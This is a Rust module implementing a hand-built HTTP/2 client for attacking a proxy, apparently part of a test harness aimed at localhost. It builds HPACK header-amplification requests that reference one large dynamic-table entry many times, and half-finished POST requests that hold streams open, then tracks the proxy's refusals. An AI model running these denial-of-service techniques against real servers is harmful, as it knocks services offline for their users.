//! As much of HTTP/2 as an attack needs, written by hand: a well-kept client would take what is sent.

use super::client::Outcome;
use std::cell::{Cell, RefCell};
use std::collections::BTreeSet;
use std::rc::Rc;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::sync::{Mutex, Notify};
use tokio::task::JoinHandle;
use tokio_rustls::client::TlsStream;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;
/// The largest that needs no leave.
const FRAME: usize = 16_384;

type Writer = Rc<Mutex<WriteHalf<TlsStream<TcpStream>>>>;

/// What the proxy said to this connection.
#[derive(Default)]
struct Heard {
    sent: Cell<usize>,
    refused: RefCell<BTreeSet<u32>>,
    opened: Cell<usize>,
    gone: Cell<bool>,
    answered: Notify,
}

pub(super) struct Connection {
    writer: Writer,
    heard: Rc<Heard>,
    reader: JoinHandle<Option<()>>,
}

impl Drop for Connection {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

impl Connection {
    /// `window`: what the client is willing to take of each answer.
    pub(super) async fn open(stream: TlsStream<TcpStream>, window: u32) -> Outcome<Self> {
        let (read, mut write) = tokio::io::split(stream);
        let mut first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        first.extend(frame(SETTINGS, 0, 0, &[&[0, 4], window.to_be_bytes().as_slice()].concat()));
        write.write_all(&first).await?;
        write.flush().await?;
        let (writer, heard) = (Rc::new(Mutex::new(write)), Rc::<Heard>::default());
        let reader = tokio::task::spawn_local(listen(read, Rc::clone(&writer), Rc::clone(&heard)));
        Ok(Self { writer, heard, reader })
    }

    /// A proxy that has hung up is no error of the attack's.
    pub(super) async fn send(&self, frames: &[u8]) {
        let mut writer = self.writer.lock().await;
        if writer.write_all(frames).await.is_ok() && writer.flush().await.is_ok() {
            self.heard.sent.set(self.heard.sent.get() + frames.len());
            self.heard.opened.set(self.heard.opened.get() + 1);
        }
    }

    pub(super) async fn answered(&self) -> Outcome {
        let answered = self.heard.answered.notified();
        let within = std::time::Duration::from_secs(10);
        tokio::time::timeout(within, answered).await.map_err(|_| "no answer over HTTP/2".into())
    }

    pub(super) fn sent(&self) -> usize {
        self.heard.sent.get()
    }

    pub(super) fn under_way(&self) -> usize {
        let refused = self.heard.refused.borrow().len();
        if self.heard.gone.get() { 0 } else { self.heard.opened.get().saturating_sub(refused) }
    }
}

/// Answers what must be answered, and notes what was refused.
async fn listen(
    mut read: ReadHalf<TlsStream<TcpStream>>,
    writer: Writer,
    heard: Rc<Heard>,
) -> Option<()> {
    loop {
        let mut head = [0; 9];
        if read.read_exact(&mut head).await.is_err() {
            heard.gone.set(true);
            return None;
        }
        let [a, b, c, kind, flags, d, e, f, g] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        read.read_exact(&mut payload).await.ok()?;
        let back = match kind {
            SETTINGS if flags & ACK == 0 => frame(SETTINGS, ACK, 0, &[]),
            PING if flags & ACK == 0 => frame(PING, ACK, 0, &payload),
            _ => Vec::new(),
        };
        if !back.is_empty() {
            let mut writer = writer.lock().await;
            writer.write_all(&back).await.ok()?;
            writer.flush().await.ok()?;
        }
        match kind {
            RST_STREAM => {
                heard.refused.borrow_mut().insert(u32::from_be_bytes([d, e, f, g]));
            }
            GOAWAY => heard.gone.set(true),
            HEADERS | DATA => heard.answered.notify_one(),
            _ => {}
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request whose head refers `references` times to one field of `bytes`, which the first request of
/// the connection brings.
pub(super) fn get(stream: u32, path: &str, bytes: usize, references: usize) -> Vec<u8> {
    let mut block = head(2, path);
    if bytes > 0 {
        if stream == 1 {
            // Literal with indexing, new name.
            block.push(0x40);
            text(&mut block, "x");
            text(&mut block, &"y".repeat(bytes));
        }
        // The newest entry of the dynamic table.
        block.extend(std::iter::repeat_n(0x80 | 62, references));
    }
    headers(stream, END_STREAM, &block)
}

pub(super) fn half_post(stream: u32) -> Vec<u8> {
    let mut block = head(3, "/take");
    // Literal without indexing, content-length by its place in the static table.
    block.extend([0x0f, 28 - 15]);
    text(&mut block, "8192");
    [headers(stream, 0, &block), frame(DATA, 0, stream, &[b'x'; 4096])].concat()
}

/// `method`: its place in the static table.
fn head(method: u8, path: &str) -> Vec<u8> {
    // :scheme https
    let mut block = vec![0x80 | method, 0x80 | 7, 4];
    text(&mut block, path);
    block.push(1);
    text(&mut block, "localhost");
    block
}

fn text(block: &mut Vec<u8>, text: &str) {
    match u8::try_from(text.len()) {
        Ok(short) if short < 127 => block.push(short),
        _ => {
            block.push(127);
            let mut rest = text.len() - 127;
            while rest >= 128 {
                block.push(128 | (rest % 128) as u8);
                rest /= 128;
            }
            block.push(rest as u8);
        }
    }
    block.extend_from_slice(text.as_bytes());
}

fn headers(stream: u32, flags: u8, block: &[u8]) -> Vec<u8> {
    let mut pieces = block.chunks(FRAME).peekable();
    let mut frames = Vec::new();
    let (mut kind, mut flags) = (HEADERS, flags);
    while let Some(piece) = pieces.next() {
        let last = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        frames.extend(frame(kind, flags | last, stream, piece));
        (kind, flags) = (CONTINUATION, 0);
    }
    frames
}
